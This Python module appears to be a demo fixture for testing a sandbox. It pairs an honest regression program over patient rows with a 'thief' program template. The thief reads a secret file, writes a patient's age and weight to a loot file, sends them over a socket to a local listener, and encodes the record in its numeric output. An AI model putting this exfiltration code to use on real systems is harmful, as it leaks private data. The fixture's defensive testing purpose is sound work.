"""Two programs on real rows: one that computes, and one that steals. What each of them got.

The thief is no dud: outside a sandbox, as `rehearse` runs it, it takes what it is after. The demo owns what it is to
steal: a file, a listening socket, and a place to write to.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

BLOCKS, SECONDS, EPSILON = 20, 0.3, 2.0
TABLES = {"patients": ["id", "age", "weight", "height"]}

HONEST = b'''\
import numpy

def run(tables):
    """What a centimetre weighs: a line through the patients of a block."""
    patients = tables["patients"].dropna()
    slope, _ = numpy.polyfit(patients["height"], patients["weight"], 1)
    return [slope]
'''
HONEST_OUTPUTS = ("kg_per_cm: float[0,2]",)

THIEF = """\
import socket

def succeeds(attempt):
    try:
        return bool(attempt())
    except Exception:
        return False

def written(text):
    with open({loot!r}, "a") as loot:
        return loot.write(text)

def sent(text):
    with socket.create_connection(("127.0.0.1", {port}), timeout=1) as out:
        out.sendall(text.encode())
    return True

def run(tables):
    one = tables["patients"].dropna().iloc[0]
    told = f"patient of {{one['age']}} years, {{one['weight']}} kg"
    read = succeeds(lambda: open({secret!r}).read() == {content!r})
    taken = read + succeeds(lambda: written(told)) + succeeds(lambda: sent(told))
    # One patient's age and weight, in digits beyond any range.
    return [taken, one["age"] * 1e6 + one["weight"]]
"""
THIEF_OUTPUTS = ("taken: float[0,3] = 0", "one_patient: float[0,100]")


@dataclass(frozen=True)
class Prey:
    """What a thief is after.

    Attributes:
        secret: a file that everybody may read.
        loot: where it would write.
        listener: where it would send to; on this machine's loopback, never blocking.
    """

    secret: Path
    loot: Path
    listener: socket.socket

    @property
    def thief(self) -> bytes:
        """A program that tries to take all of it."""
        given = {"loot": str(self.loot), "port": self.listener.getsockname()[1], "secret": str(self.secret)}
        return THIEF.format(**given, content=self.secret.read_text()).encode()

    def taken(self) -> tuple[int, int]:
        """How many texts were written, and how many connections made, since this was asked last."""
        written = self.loot.read_text().count("patient of") if self.loot.exists() else 0
        self.loot.unlink(missing_ok=True)
        made = 0
        with suppress(BlockingIOError):
            while True:
                self.listener.accept()[0].close()
                made += 1
        return written, made


@contextmanager
def prey(folder: Path) -> Iterator[Prey]:
    """Something to steal, in `folder` and on this machine's loopback, until the context ends."""
    secret = folder / "secret"
    secret.write_text("nobody's business")
    secret.chmod(0o644)
    # The kernel takes connections for it: as many as it has room for.
    with socket.create_server(("127.0.0.1", 0), backlog=4 * BLOCKS) as listener:
        listener.setblocking(False)
        yield Prey(secret, folder / "loot", listener)
